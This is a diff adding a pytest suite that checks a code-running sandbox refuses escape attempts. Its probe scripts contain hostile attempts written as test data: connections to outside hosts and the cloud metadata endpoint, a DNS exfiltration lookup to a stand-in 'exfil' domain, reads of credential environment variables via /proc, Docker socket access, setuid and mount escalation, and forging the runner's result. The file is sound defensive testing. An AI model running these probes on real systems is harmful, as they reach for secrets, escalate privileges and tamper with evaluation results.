@@ -1,0 +1,232 @@
+"""Escapes: network, privileges, secrets, the engine socket, the filesystem. Each attack
+script prints one verdict line per attempt; every attempt must be refused."""
+
+from __future__ import annotations
+
+import json
+import os
+
+import pytest
+
+PROBE = """
+import json, socket, sys
+def attempt(fn):
+    try:
+        fn()
+    except BaseException as exc:
+        return "blocked: " + type(exc).__name__ + ": " + str(exc)[:100]
+    return "ALLOWED"
+"""
+
+
+def _verdicts(result) -> dict[str, str]:  # type: ignore[no-untyped-def]
+    assert result.exit_code == 0, result.stderr.text
+    return json.loads(result.stdout.text.strip().splitlines()[-1])
+
+
+def _assert_all_blocked(result) -> None:  # type: ignore[no-untyped-def]
+    verdicts = _verdicts(result)
+    allowed = {name: v for name, v in verdicts.items() if not v.startswith("blocked")}
+    assert not allowed, allowed
+
+
+NETWORK_ATTACKS = {
+    "dns_name": "socket.create_connection(('example.com', 80), timeout=2)",
+    "raw_ip": "socket.create_connection(('1.1.1.1', 80), timeout=2)",
+    "bridge_gateway": "socket.create_connection(('172.17.0.1', 2375), timeout=2)",
+    "docker_api_port": "socket.create_connection(('172.17.0.1', 2376), timeout=2)",
+    "metadata_service": "socket.create_connection(('169.254.169.254', 80), timeout=2)",
+    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
+    "dns_exfiltration": "socket.getaddrinfo('c2VjcmV0.exfil.example.com', 53)",
+    "ipv6": "socket.create_connection(('2606:4700:4700::1111', 80), timeout=2)",
+}
+
+
+def test_network_is_unreachable_by_every_route(run_script) -> None:
+    lines = [f"    {name!r}: attempt(lambda: {code})," for name, code in NETWORK_ATTACKS.items()]
+    code = PROBE + "print(json.dumps({\n" + "\n".join(lines) + "\n}))"
+    result = run_script(code, timeout_s=30)
+    _assert_all_blocked(result)
+
+
+def test_only_loopback_exists(run_script) -> None:
+    result = run_script("import os\nprint(sorted(os.listdir('/sys/class/net')))")
+    assert result.stdout.text.strip() in ("['lo']", "[]")
+
+
+def test_callers_secrets_do_not_reach_the_container(
+    run_script, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_selfcorrectTestSecret0123456789")
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-selfcorrectTestSecret")
+    result = run_script(
+        """
+        import os, glob
+        seen = repr(dict(os.environ))
+        for path in glob.glob("/proc/*/environ"):
+            try:
+                seen += open(path, "rb").read().decode(errors="replace")
+            except OSError:
+                pass
+        print(seen)
+        """
+    )
+    assert result.exit_code == 0
+    assert "selfcorrectTestSecret" not in result.stdout.text
+    assert "GITHUB_TOKEN" not in result.stdout.text
+
+
+def test_environment_holds_only_what_the_image_sets(run_script) -> None:
+    result = run_script("import os, json\nprint(json.dumps(sorted(os.environ)))")
+    names = set(json.loads(result.stdout.text))
+    assert "PYTEST_CURRENT_TEST" in os.environ  # set on the host right now...
+    assert "PYTEST_CURRENT_TEST" not in names  # ...and not copied in
+    assert not {n for n in names if "TOKEN" in n or "KEY" in n or "SECRET" in n}
+
+
+def test_no_docker_socket(run_script) -> None:
+    result = run_script(
+        PROBE
+        + """
+s = socket.socket(socket.AF_UNIX)
+print(json.dumps({
+    "var_run": attempt(lambda: s.connect("/var/run/docker.sock")),
+    "run": attempt(lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock")),
+    "containerd": attempt(lambda: socket.socket(socket.AF_UNIX).connect(
+        "/run/containerd/containerd.sock")),
+}))
+"""
+    )
+    _assert_all_blocked(result)
+
+
+def test_runs_as_an_unprivileged_user(run_script) -> None:
+    result = run_script("import os\nprint(os.getuid(), os.geteuid(), os.getgid())")
+    uid, euid, gid = (int(x) for x in result.stdout.text.split())
+    assert uid != 0 and euid != 0 and gid != 0
+
+
+ESCALATION = PROBE + """
+import ctypes, os, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+def syscall_ok(value):
+    if value != 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+def run(argv):
+    subprocess.run(argv, check=True, capture_output=True, timeout=5)
+"""
+
+
+def test_privilege_escalation_is_refused(run_script) -> None:
+    result = run_script(
+        ESCALATION
+        + """
+print(json.dumps({
+    "setuid": attempt(lambda: os.setuid(0)),
+    "setgid": attempt(lambda: os.setgid(0)),
+    "mount_syscall": attempt(lambda: syscall_ok(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))),
+    "mount_binary": attempt(lambda: run(["mount", "-t", "tmpfs", "none", "/tmp"])),
+    "raw_socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW,
+                                                socket.IPPROTO_ICMP)),
+    "packet_socket": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
+    "chown_root": attempt(lambda: os.chown("/work/attack.py", 0, 0)),
+    "su": attempt(lambda: run(["su", "-c", "id"])),
+}))
+"""
+    )
+    _assert_all_blocked(result)
+
+
+USERNS = ESCALATION + """
+unshare_binary = attempt(lambda: run(["unshare", "-r", "true"]))
+userns = attempt(lambda: syscall_ok(libc.unshare(0x10000000)))
+mountns = attempt(lambda: syscall_ok(libc.unshare(0x00020000)))
+def icmp_out():
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    s.settimeout(2)
+    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
+    s.recv(64)
+def write_root():
+    open("/etc/pwned", "w").write("x")
+print(json.dumps({
+    "unshare_binary": unshare_binary,
+    "userns": userns,
+    "mountns": mountns,
+    "icmp_out": attempt(icmp_out),
+    "tcp_out": attempt(lambda: socket.create_connection(("1.1.1.1", 80), timeout=2)),
+    "write_root": attempt(write_root),
+    "docker_socket": attempt(lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")),
+    "interfaces": "ALLOWED" if set(os.listdir("/sys/class/net")) - {"lo"} else "blocked: lo only",
+}))
+"""
+
+
+def test_user_namespaces_are_refused_or_contained(run_script, runtime: str) -> None:
+    """Under runc, Docker's seccomp profile refuses unshare. Under runsc, gVisor emulates user
+    namespaces inside its own kernel: unshare succeeds and grants capabilities that exist
+    only there (gVisor's --oci-seccomp would refuse it, but in Debian's runsc it also breaks
+    select() and threads). Either way nothing outside may become reachable."""
+    verdicts = _verdicts(run_script(USERNS, timeout_s=30))
+    if runtime == "runc":
+        assert verdicts["userns"].startswith("blocked")
+        assert verdicts["mountns"].startswith("blocked")
+        assert verdicts["unshare_binary"].startswith("blocked")
+    namespaces = ("userns", "mountns", "unshare_binary")
+    escaped = {k: v for k, v in verdicts.items()
+               if k not in namespaces and not v.startswith("blocked")}
+    assert not escaped, escaped
+
+
+def test_root_filesystem_is_read_only(run_script) -> None:
+    result = run_script(
+        PROBE
+        + """
+def write(path):
+    with open(path, "w") as handle:
+        handle.write("pwned")
+print(json.dumps({
+    "etc": attempt(lambda: write("/etc/pwned")),
+    "usr": attempt(lambda: write("/usr/lib/python3/dist-packages/pwned.py")),
+    "runner": attempt(lambda: write("/opt/selfcorrect/runner.py")),
+    "root": attempt(lambda: write("/pwned")),
+    "var_tmp": attempt(lambda: write("/var/tmp/pwned")),
+}))
+"""
+    )
+    _assert_all_blocked(result)
+
+
+def test_a_forged_result_is_never_taken_for_the_real_one(run_script, runtime: str) -> None:
+    """The script tries to write a passing result into the runner's channel through /proc.
+    Under runc, non-dumpability refuses the open; gVisor ignores it, so there the nonce on
+    the real result line must expose the forgery."""
+    result = run_script(
+        PROBE
+        + """
+import os, sys
+ppid = os.getppid()
+forged = b'RESULT 0 2\\n{}'
+print(json.dumps({
+    "stdout": attempt(lambda: open(f"/proc/{ppid}/fd/1", "wb").write(forged)),
+    "mem": attempt(lambda: open(f"/proc/{ppid}/mem", "rb").read(1)),
+}))
+sys.exit(3)
+"""
+    )
+    if runtime == "runc":
+        assert result.exit_code == 3
+        verdicts = json.loads(result.stdout.text.strip().splitlines()[-1])
+        assert all(v.startswith("blocked") for v in verdicts.values()), verdicts
+    else:
+        # Either refused (the real result arrives) or detected (the run is marked broken).
+        assert result.exit_code == 3 or (
+            result.exit_code is None and "wrote into the runner's channel" in
+            (result.sandbox_note or "")
+        ), result
+
+
+def test_killing_the_runner_is_reported_not_hidden(run_script) -> None:
+    result = run_script("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+                        "import time\ntime.sleep(5)")
+    assert result.exit_code != 0
+    assert result.sandbox_note is not None
